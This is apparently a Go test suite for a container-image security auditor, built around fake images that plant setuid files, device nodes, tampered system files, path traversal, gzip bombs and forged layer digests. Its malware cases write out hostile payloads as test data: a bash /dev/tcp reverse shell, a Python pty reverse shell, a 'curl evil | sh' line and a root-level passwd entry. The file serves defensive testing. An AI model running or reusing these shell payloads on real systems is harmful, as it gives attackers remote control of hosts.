package audit

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/partial"
	"github.com/google/go-containerregistry/pkg/v1/random"
)

// eicar is assembled at run time so this file is not itself a test virus.
var eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*"

func TestCleanImagePasses(t *testing.T) {
	f := newFixture(t)
	img := f.custom(t, []tf{
		// docker build repeats the parent directories, unchanged.
		dir("usr"), dir("usr/local"), dir("usr/local/bin"),
		file("usr/local/bin/train-helper", "#!/bin/sh\necho hi\n", 0o755),
		owned(dir("home/work/user-job-dir"), 1101, 1101),
		owned(file("home/work/user-job-dir/main.py", "import numpy\nprint('train')\n", 0o644), 1101, 1101),
		// an unchanged copy of the base's setuid file is not new.
		file("usr/bin/passwd", "ELF passwd, setuid root", 0o4755),
		// setuid but not root-owned is allowed.
		owned(file("usr/local/bin/mine", "x", 0o4755), 1101, 1101),
		// deleting unprotected base content is allowed.
		whiteout("var/cache/.wh.junk"),
	}, []tf{file("etc/motd", "welcome", 0o644)})
	rep := mustAudit(t, NewAuditor(f.catalog, nil), img, Options{})
	if rep.Verdict != Pass {
		t.Fatalf("verdict %s, want pass:\n%s", rep.Verdict, dump(rep))
	}
	if rep.Base == nil || rep.Base.Name != "eiwizard/custom-cpu-base" || rep.Layers != 4 || rep.AddedLayers != 2 {
		t.Fatalf("base %+v layers %d added %d", rep.Base, rep.Layers, rep.AddedLayers)
	}
	if rep.ManifestDigest == "" || rep.ConfigDigest == "" || rep.Size == 0 || len(rep.Log) == 0 {
		t.Fatalf("report incomplete: %+v", rep)
	}
}

// TestCorpus is one image per rule and the tricky cases of issue 6, each
// an image built on the fake base with the given added layers.
func TestCorpus(t *testing.T) {
	f := newFixture(t)
	caps := file("usr/local/bin/ping2", "ELF ping", 0o755)
	caps.pax = map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}
	tests := []struct {
		name   string
		layers [][]tf
		opts   Options
		want   []string // rule IDs, sorted
		path   string   // a path one violation must name
	}{
		{"new file under /usr/local passes", [][]tf{{file("usr/local/bin/tool", "tool", 0o755)}}, Options{}, nil, ""},
		{"chmod u+s on a base file", [][]tf{{file("usr/bin/python3", "ELF python3", 0o4755)}}, Options{},
			[]string{RuleProtModified, RuleSetuid}, "/usr/bin/python3"},
		{"new hardlink to the base's setuid file", [][]tf{{hardlink("tmp/pw", "usr/bin/passwd")}}, Options{},
			[]string{RuleHostileLayer}, "/tmp/pw"},
		{"hardlink to a lower layer's /etc/shadow", [][]tf{{file("etc/shadow2", "x", 0o600)}, {hardlink("tmp/sh", "etc/shadow")}}, Options{},
			[]string{RuleHostileLayer}, "/tmp/sh"},
		{"hardlink to a later entry of the layer", [][]tf{{hardlink("opt/b", "opt/a"), file("opt/a", "a", 0o644)}}, Options{},
			[]string{RuleHostileLayer}, "/opt/b"},
		{"hardlink in the same layer passes", [][]tf{{file("opt/a", "a", 0o644), hardlink("opt/b", "opt/a")}}, Options{}, nil, ""},
		{"hardlink to a setuid file of the same layer", [][]tf{{file("opt/s", "ELF", 0o4755), hardlink("opt/t", "opt/s")}}, Options{},
			[]string{RuleSetuid}, "/opt/t"},
		{"device node char 1:1 0666", [][]tf{{dir("opt"), device("opt/mem", tar.TypeChar, 1, 1, 0o666)}}, Options{},
			[]string{RuleSpecialFile}, "/opt/mem"},
		{"block device", [][]tf{{device("tmp/sda", tar.TypeBlock, 8, 0, 0o660)}}, Options{}, []string{RuleSpecialFile}, "/tmp/sda"},
		{"fifo", [][]tf{{device("tmp/pipe", tar.TypeFifo, 0, 0, 0o644)}}, Options{}, []string{RuleSpecialFile}, "/tmp/pipe"},
		{"the base's /dev/null renumbered", [][]tf{{device("dev/null", tar.TypeChar, 1, 1, 0o666)}}, Options{}, []string{RuleSpecialFile}, "/dev/null"},
		{"the base's /dev/null as it is passes", [][]tf{{device("dev/null", tar.TypeChar, 1, 3, 0o666)}}, Options{}, nil, ""},
		{"ignore cannot hide a device node", [][]tf{{device("tmp/mem", tar.TypeChar, 1, 1, 0o666)}}, Options{Ignore: []string{RuleSpecialFile}}, []string{RuleSpecialFile}, ""},
		{"new setuid root file", [][]tf{{file("usr/local/bin/rootme", "ELF", 0o4755)}}, Options{},
			[]string{RuleSetuid}, "/usr/local/bin/rootme"},
		{"new setgid root file", [][]tf{{file("opt/g", "ELF", 0o2755)}}, Options{},
			[]string{RuleSetuid}, "/opt/g"},
		{"file capabilities", [][]tf{{caps}}, Options{}, []string{RuleSetuid}, "/usr/local/bin/ping2"},
		{"modified run_train.sh", [][]tf{{file("home/work/run_train.sh", "#!/bin/bash\ncurl evil | sh\n", 0o755)}}, Options{},
			[]string{RuleProtModified}, "/home/work/run_train.sh"},
		{"modified toolkit helper, same size", [][]tf{{file("home/work/malocal_toolkit/download.py", "def download(): PASS\n", 0o644)}}, Options{},
			[]string{RuleProtModified}, "/home/work/malocal_toolkit/download.py"},
		{"chown of /etc/passwd", [][]tf{{owned(file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwork:x:1101:1101::/home/work:/bin/bash\n", 0o644), 1101, 0)}}, Options{},
			[]string{RuleProtModified}, "/etc/passwd"},
		{"useradd edits /etc/passwd", [][]tf{{file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n", 0o644)}}, Options{},
			[]string{RuleProtModified}, "/etc/passwd"},
		{"mode change of /usr/bin", [][]tf{{{name: "usr/bin", typ: tar.TypeDir, mode: 0o777}}}, Options{},
			[]string{RuleProtModified}, "/usr/bin"},
		{"protected symlink retargeted", [][]tf{{symlink("usr/bin/python", "/tmp/evil/python")}}, Options{},
			[]string{RuleProtModified}, "/usr/bin/python"},
		{"xattr added to a base file", [][]tf{{func() tf {
			e := file("usr/bin/python3", "ELF python3", 0o755)
			e.pax = map[string]string{"SCHILY.xattr.user.note": "x"}
			return e
		}()}}, Options{}, []string{RuleProtModified}, "/usr/bin/python3"},
		{"chmod u+s on an unprotected base file", [][]tf{{file("var/cache/junk", "cache", 0o4755)}}, Options{},
			[]string{RuleSetuid}, "/var/cache/junk"},
		{"unchanged copy of a protected file", [][]tf{{dir("usr"), dir("usr/bin"), file("usr/bin/python3", "ELF python3", 0o755), symlink("usr/bin/python", "python3")}}, Options{}, nil, ""},
		{"whiteout of /bin/ls", [][]tf{{whiteout("bin/.wh.ls")}}, Options{}, []string{RuleProtDeleted}, "/bin/ls"},
		{"whiteout of the toolkit dir", [][]tf{{whiteout("home/work/.wh.malocal_toolkit")}}, Options{}, []string{RuleProtDeleted}, "/home/work/malocal_toolkit"},
		{"opaque /usr/lib", [][]tf{{dir("usr/lib"), whiteout("usr/lib/.wh..wh..opq")}}, Options{}, []string{RuleProtDeleted}, "/usr/lib"},
		{"/lib64 replaced by a symlink", [][]tf{{symlink("lib64", "/tmp/evil")}}, Options{}, []string{RuleProtRetyped}, "/lib64"},
		{"/bin/ls replaced by a symlink", [][]tf{{symlink("bin/ls", "/tmp/ls")}}, Options{}, []string{RuleProtRetyped}, "/bin/ls"},
		{"EICAR in a file a later layer deletes", [][]tf{{file("tmp/payload", "junk\n"+eicar+"\njunk", 0o644)}, {whiteout("tmp/.wh.payload")}}, Options{},
			[]string{RuleMalware}, "/tmp/payload"},
		{"reverse shell", [][]tf{{file("home/work/user-job-dir/x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", 0o755)}}, Options{},
			[]string{RuleMalware}, "/home/work/user-job-dir/x.sh"},
		{"python pty reverse shell", [][]tf{{file("opt/r.py", "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")", 0o644)}}, Options{},
			[]string{RuleMalware}, "/opt/r.py"},
		{"crypto miner config", [][]tf{{file("opt/config.json", `{"pools":[{"url":"Stratum+TCP://pool.example:3333"}]}`, 0o644)}}, Options{},
			[]string{RuleMalware}, "/opt/config.json"},
		{"user signature", [][]tf{{file("opt/x", "contains FORBIDDEN-MARKER here", 0o644)}},
			Options{Signatures: []Signature{{Name: "marker", Pattern: []byte("FORBIDDEN-MARKER")}}}, []string{RuleMalware}, "/opt/x"},
		{"size over the limit", [][]tf{{file("opt/big", strings.Repeat("a", 4096), 0o644)}}, Options{MaxSize: 4096},
			[]string{RuleHostileLayer, RuleLayerDiffID, RuleSize}, ""},
		{"path traversal", [][]tf{{file("../../etc/cron.d/x", "* * * * * root sh", 0o644)}}, Options{}, []string{RuleHostileLayer}, ""},
		{"absolute path", [][]tf{{file("/etc/cron.d/x", "x", 0o644)}}, Options{}, []string{RuleHostileLayer}, ""},
		{"hardlink escaping the root", [][]tf{{hardlink("tmp/x", "../../etc/shadow")}}, Options{}, []string{RuleHostileLayer}, "/tmp/x"},
		{"bad whiteout .wh..", [][]tf{{whiteout("usr/.wh..")}}, Options{}, []string{RuleHostileLayer}, "/usr/.wh.."},
		{"reserved whiteout", [][]tf{{whiteout("usr/.wh..wh.plnk")}}, Options{}, []string{RuleHostileLayer}, "/usr/.wh..wh.plnk"},
		{"duplicate path in one layer", [][]tf{{file("opt/a", "1", 0o644), file("opt/a", "2", 0o644)}}, Options{}, []string{RuleHostileLayer}, "/opt/a"},
		{"write through a symlink of the same layer", [][]tf{{symlink("opt/u", "/usr/bin"), file("opt/u/ls", "evil", 0o755)}}, Options{},
			[]string{RuleHostileLayer}, "/opt/u/ls"},
		{"too many entries", [][]tf{{file("opt/1", "", 0o644), file("opt/2", "", 0o644), file("opt/3", "", 0o644)}},
			Options{Limits: Limits{MaxEntries: 2}}, []string{RuleHostileLayer, RuleLayerDiffID}, ""},
		{"ignored rule", [][]tf{{file("usr/local/bin/rootme", "ELF", 0o4755)}}, Options{Ignore: []string{"# ours", "MA-SUID-001 /usr/local/bin/*"}}, nil, ""},
		{"ignore cannot hide a hostile layer", [][]tf{{file("../x", "x", 0o644)}}, Options{Ignore: []string{RuleHostileLayer}}, []string{RuleHostileLayer}, ""},
	}
	a := NewAuditor(f.catalog, nil)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rep := mustAudit(t, a, f.custom(t, tc.layers...), tc.opts)
			if got := rulesOf(rep); !slices.Equal(got, sorted(tc.want)) {
				t.Fatalf("rules %v, want %v:\n%s", got, tc.want, dump(rep))
			}
			if (rep.Verdict == Pass) != (len(tc.want) == 0) {
				t.Fatalf("verdict %s with rules %v", rep.Verdict, tc.want)
			}
			if tc.path != "" && !slices.ContainsFunc(rep.Violations, func(v Violation) bool { return v.Path == tc.path }) {
				t.Fatalf("no violation names %s:\n%s", tc.path, dump(rep))
			}
			for _, v := range rep.Violations {
				if v.LayerIndex >= 0 && (v.Layer == "" || v.LayerIndex < 2) {
					t.Errorf("violation %+v: names no added layer", v)
				}
			}
		})
	}
}

func TestEICARLayerIsTheOneNamed(t *testing.T) {
	f := newFixture(t)
	img := f.custom(t, []tf{file("tmp/payload", eicar, 0o644)}, []tf{whiteout("tmp/.wh.payload")})
	rep := mustAudit(t, NewAuditor(f.catalog, nil), img, Options{})
	cfg, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Violations) != 1 || rep.Violations[0].LayerIndex != 2 || rep.Violations[0].Layer != cfg.RootFS.DiffIDs[2].String() ||
		!strings.Contains(rep.Violations[0].Detail, "eicar") {
		t.Fatalf("violations %+v", rep.Violations)
	}
}

func TestNotOnABase(t *testing.T) {
	f := newFixture(t)
	rnd, err := random.Image(1024, 2)
	if err != nil {
		t.Fatal(err)
	}
	rep := mustAudit(t, NewAuditor(f.catalog, nil), rnd, Options{})
	if got := rulesOf(rep); !slices.Equal(got, []string{RuleBaseLineage}) {
		t.Fatalf("rules %v:\n%s", got, dump(rep))
	}
	// A squashed image: the base's files and the user's in one layer.
	var all []tf
	for _, es := range baseFS(runTrainV1) {
		all = append(all, es...)
	}
	all = append(all, file("usr/local/bin/tool", "tool", 0o755))
	rep = mustAudit(t, NewAuditor(f.catalog, nil), imageOf(t, [][]tf{all}), Options{})
	// With no base, that is reported alone: the base's own setuid passwd
	// is not judged as added.
	if got := rulesOf(rep); !slices.Equal(got, []string{RuleBaseLineage}) || rep.Base != nil || rep.AddedLayers != 1 {
		t.Fatalf("squashed: rules %v:\n%s", got, dump(rep))
	}
	// An image whose labels name the official base, built on another
	// build of it: the report names that base and the fix.
	cf, err := labelledOnBase(t, imageOf(t, [][]tf{all}))
	if err != nil {
		t.Fatal(err)
	}
	rep = mustAudit(t, NewAuditor(f.catalog, nil), cf, Options{})
	if len(rep.Violations) != 1 || !strings.Contains(rep.Violations[0].Detail, "another build of base eiwizard/custom-cpu-base:1.0 than the official one ("+f.record.Digest+")") ||
		!strings.Contains(rep.Violations[0].Detail, "malocal base add eiwizard/custom-cpu-base:1.0") {
		t.Fatalf("labelled: %s", dump(rep))
	}
	// The base by itself is fine.
	if rep := mustAudit(t, NewAuditor(f.catalog, nil), f.base, Options{}); rep.Verdict != Pass {
		t.Fatalf("base itself:\n%s", dump(rep))
	}
}

func TestConfigLyingAboutDiffIDs(t *testing.T) {
	f := newFixture(t)
	good := f.custom(t, []tf{file("opt/app", "app", 0o644)})
	blobs, ids := storedLayers(t, good)

	// The added layer's diff_id is not what it hashes to.
	lied := slices.Clone(ids)
	lied[2] = sha([]byte("something else"))
	img, _ := craft(t, blobs, lied)
	rep := mustAudit(t, NewAuditor(f.catalog, nil), img, Options{})
	if got := rulesOf(rep); !slices.Equal(got, []string{RuleLayerDiffID}) || rep.Violations[0].LayerIndex != 2 {
		t.Fatalf("rules %v:\n%s", got, dump(rep))
	}

	// Forged lineage: the config claims the base's diff_ids, but the first
	// layer is other content (a modified /bin/ls that would otherwise be
	// invisible, since base layers are not compared file by file).
	forged := baseFS(runTrainV1)
	forged[0][1] = file("bin/ls", "ELF ls with a backdoor", 0o755)
	fb, _ := storedLayers(t, imageOf(t, forged))
	img, _ = craft(t, [][]byte{fb[0], blobs[1], blobs[2]}, ids)
	rep = mustAudit(t, NewAuditor(f.catalog, nil), img, Options{})
	if got := rulesOf(rep); !slices.Equal(got, []string{RuleLayerDiffID}) || rep.Violations[0].LayerIndex != 0 {
		t.Fatalf("forged lineage: rules %v:\n%s", got, dump(rep))
	}

	// More layers than diff_ids.
	img, _ = craft(t, blobs, ids[:2])
	rep = mustAudit(t, NewAuditor(f.catalog, nil), img, Options{})
	if got := rulesOf(rep); !slices.Equal(got, []string{RuleLayerDiffID}) {
		t.Fatalf("layer count: rules %v:\n%s", got, dump(rep))
	}
}

func TestCorruptStreams(t *testing.T) {
	f := newFixture(t)
	blobs, ids := storedLayers(t, f.base)
	app := tarOf(t, file("opt/app", strings.Repeat("training code\n", 5000), 0o644))
	zapp := gz(t, app)

	// A gzip bomb: 64 MiB of zeros in a few tens of KiB.
	bombTar := tarOf(t, file("opt/zeros", strings.Repeat("\x00", 64<<20), 0o644))
	zstdApp := zstdOf(t, app)
	corruptZstd := slices.Clone(zstdApp)
	for i := len(corruptZstd) / 2; i < len(corruptZstd)/2+64 && i < len(corruptZstd); i++ {
		corruptZstd[i] ^= 0x5a
	}
	badCRC := slices.Clone(zapp)
	badCRC[len(badCRC)-6] ^= 0xff // the CRC-32 in the gzip trailer
	tests := []struct {
		name   string
		blob   []byte
		diffID v1.Hash
		want   []string
		detail string
	}{
		{"truncated gzip layer", zapp[:len(zapp)/2], sha(app), []string{RuleHostileLayer, RuleLayerDiffID}, "corrupt gzip"},
		{"gzip checksum", badCRC, sha(app), []string{RuleHostileLayer, RuleLayerDiffID}, "corrupt gzip"},
		{"gzip bomb", gz(t, bombTar), sha(bombTar), []string{RuleHostileLayer, RuleLayerDiffID}, "compression bomb"},
		{"zstd layer passes", zstdApp, sha(app), nil, ""},
		{"corrupt zstd layer", corruptZstd, sha(app), []string{RuleHostileLayer, RuleLayerDiffID}, "corrupt zstd"},
		{"truncated plain tar", app[:700], sha(app), []string{RuleHostileLayer, RuleLayerDiffID}, "corrupt tar"},
		{"not a tar at all", bytes.Repeat([]byte("garbage!"), 200), sha(app), []string{RuleHostileLayer, RuleLayerDiffID}, "corrupt tar"},
	}
	a := NewAuditor(f.catalog, nil)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			img, _ := craft(t, append(slices.Clone(blobs), tc.blob), append(slices.Clone(ids), tc.diffID))
			rep := mustAudit(t, a, img, Options{})
			if got := rulesOf(rep); !slices.Equal(got, sorted(tc.want)) {
				t.Fatalf("rules %v, want %v:\n%s", got, tc.want, dump(rep))
			}
			if tc.detail != "" && !slices.ContainsFunc(rep.Violations, func(v Violation) bool { return strings.Contains(v.Detail, tc.detail) }) {
				t.Fatalf("no violation says %q:\n%s", tc.detail, dump(rep))
			}
		})
	}
}

// TestBlobNotMatchingItsDigest: a base layer blob that is not what its
// manifest digest says fails, and is not remembered as verified.
func TestBlobNotMatchingItsDigest(t *testing.T) {
	f := newFixture(t)
	blobs, ids := storedLayers(t, f.custom(t, []tf{file("opt/app", "app", 0o644)}))
	_, ri := craft(t, blobs, ids)
	real, fake := sha(blobs[0]), sha([]byte("another blob"))
	ri.blobs[fake] = ri.blobs[real]
	ri.blobs[fake].digest = fake
	ri.manifest = bytes.ReplaceAll(ri.manifest, []byte(real.String()), []byte(fake.String()))
	img, err := partial.CompressedToImage(ri)
	if err != nil {
		t.Fatal(err)
	}
	a := NewAuditor(f.catalog, nil)
	for range 2 {
		rep := mustAudit(t, a, img, Options{})
		if got := rulesOf(rep); !slices.Equal(got, []string{RuleLayerDiffID}) || rep.Violations[0].LayerIndex != 0 {
			t.Fatalf("rules %v:\n%s", got, dump(rep))
		}
	}
}

func TestSourceErrorsAreNotVerdicts(t *testing.T) {
	f := newFixture(t)
	blobs, ids := storedLayers(t, f.custom(t, []tf{file("opt/app", strings.Repeat("x", 100000), 0o644)}))
	img, ri := craft(t, blobs, ids)
	ri.blobs[sha(blobs[2])].err = errors.New("disk on fire")
	if _, err := NewAuditor(f.catalog, nil).Audit(context.Background(), img, Options{}); err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Fatalf("err %v, want the source's error", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := NewAuditor(f.catalog, nil).Audit(ctx, f.custom(t, []tf{file("opt/a", "a", 0o644)}), Options{}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err %v, want context.Canceled", err)
	}
	if _, err := NewAuditor(nil, nil).Audit(context.Background(), f.base, Options{}); err == nil {
		t.Fatal("no catalog: want an error")
	}
	if _, err := Audit(context.Background(), f.base, f.catalog, Options{Ignore: []string{"MA-NOPE-001"}}); err == nil {
		t.Fatal("unknown rule in ignore: want an error")
	}
}

func TestBaseReadOncePerAuditor(t *testing.T) {
	f := newFixture(t)
	a := NewAuditor(f.catalog, nil)
	img1 := f.custom(t, []tf{file("opt/one", "1", 0o644)})
	img2 := f.custom(t, []tf{file("opt/two", "2", 0o644)}, []tf{file("usr/bin/python3", "ELF python3 patched", 0o755)})
	rep1 := mustAudit(t, a, img1, Options{})
	if rep1.Verdict != Pass || !strings.Contains(strings.Join(rep1.Log, "\n"), "hashed and indexed") {
		t.Fatalf("first audit:\n%s\n%s", dump(rep1), strings.Join(rep1.Log, "\n"))
	}
	rep2 := mustAudit(t, a, img2, Options{})
	log := strings.Join(rep2.Log, "\n")
	if !strings.Contains(log, "not read") || strings.Contains(log, "hashed") {
		t.Fatalf("second audit read the base again:\n%s", log)
	}
	// The cached index still catches a modification of the base.
	if got := rulesOf(rep2); !slices.Equal(got, []string{RuleProtModified}) {
		t.Fatalf("rules %v:\n%s", got, dump(rep2))
	}
	if rep2.Size <= rep1.Size {
		t.Fatalf("size %d after %d: base layers not counted", rep2.Size, rep1.Size)
	}
}

func TestConcurrentAudits(t *testing.T) {
	f := newFixture(t)
	a := NewAuditor(f.catalog, nil)
	imgs := []v1.Image{
		f.custom(t, []tf{file("opt/a", "a", 0o644)}),
		f.custom(t, []tf{whiteout("bin/.wh.ls")}),
		f.custom(t, []tf{file("opt/e", eicar, 0o644)}),
		f.custom(t, []tf{file("opt/s", "ELF", 0o4755), hardlink("opt/pw", "opt/s")}),
	}
	want := [][]string{nil, {RuleProtDeleted}, {RuleMalware}, {RuleSetuid}}
	var wg sync.WaitGroup
	for round := 0; round < 3; round++ {
		for i, img := range imgs {
			wg.Add(1)
			go func() {
				defer wg.Done()
				rep, err := a.Audit(context.Background(), img, Options{Concurrency: 2})
				if err != nil {
					t.Error(err)
					return
				}
				if got := rulesOf(rep); !slices.Equal(got, want[i]) {
					t.Errorf("image %d: rules %v, want %v", i, got, want[i])
				}
			}()
		}
	}
	wg.Wait()
}

// TestMergedUsrBase: on a base where /bin and /lib are symlinks into /usr
// (Debian 12, Ubuntu 22.04), a layer writing below /bin turns it into a
// directory that hides the base's /bin, even with no "bin/" entry.
func TestMergedUsrBase(t *testing.T) {
	base := imageOf(t, [][]tf{{
		dir("usr"), dir("usr/bin"), file("usr/bin/ls", "ELF ls", 0o755), dir("usr/lib"), file("usr/lib/libc.so.6", "libc", 0o755),
		symlink("bin", "usr/bin"), symlink("lib", "usr/lib"), dir("etc"), dir("opt"),
	}})
	rec, err := BaseFromImage("eiwizard/custom-cpu-base", "2.0", base)
	if err != nil {
		t.Fatal(err)
	}
	a := NewAuditor(StaticCatalog{rec}, nil)
	for _, tc := range []struct {
		name  string
		layer []tf
		want  []string
	}{
		{"file below the /bin symlink", []tf{file("bin/ls", "evil", 0o755)}, []string{RuleProtRetyped}},
		{"whiteout below the /bin symlink", []tf{whiteout("bin/.wh.ls")}, []string{RuleProtRetyped}},
		{"explicit dir over the /lib symlink", []tf{dir("lib"), file("lib/libc.so.6", "evil", 0o755)}, []string{RuleProtRetyped}},
		{"explicit dir after the file below it", []tf{file("lib/libc.so.6", "evil", 0o755), dir("lib")}, []string{RuleProtRetyped}},
		{"new tool in /usr/bin", []tf{dir("usr"), dir("usr/bin"), file("usr/bin/newtool", "ok", 0o755)}, nil},
		{"file below an unprotected dir", []tf{file("opt/app/x", "ok", 0o644)}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep := mustAudit(t, a, appendLayers(t, base, layerOf(t, tc.layer...)), Options{})
			if got := rulesOf(rep); !slices.Equal(got, tc.want) || len(rep.Violations) != len(tc.want) {
				t.Fatalf("rules %v, want %v:\n%s", got, tc.want, dump(rep))
			}
		})
	}
}

// labelledOnBase labels img as built on the fixture's base, as images built
// FROM a base inherit its labels.
func labelledOnBase(t *testing.T, img v1.Image) (v1.Image, error) {
	t.Helper()
	cf, err := img.ConfigFile()
	if err != nil {
		return nil, err
	}
	cf = cf.DeepCopy()
	cf.Config.Labels = map[string]string{"org.malocal.base.name": "eiwizard/custom-cpu-base", "org.malocal.base.tag": "1.0"}
	return mutate.ConfigFile(img, cf)
}
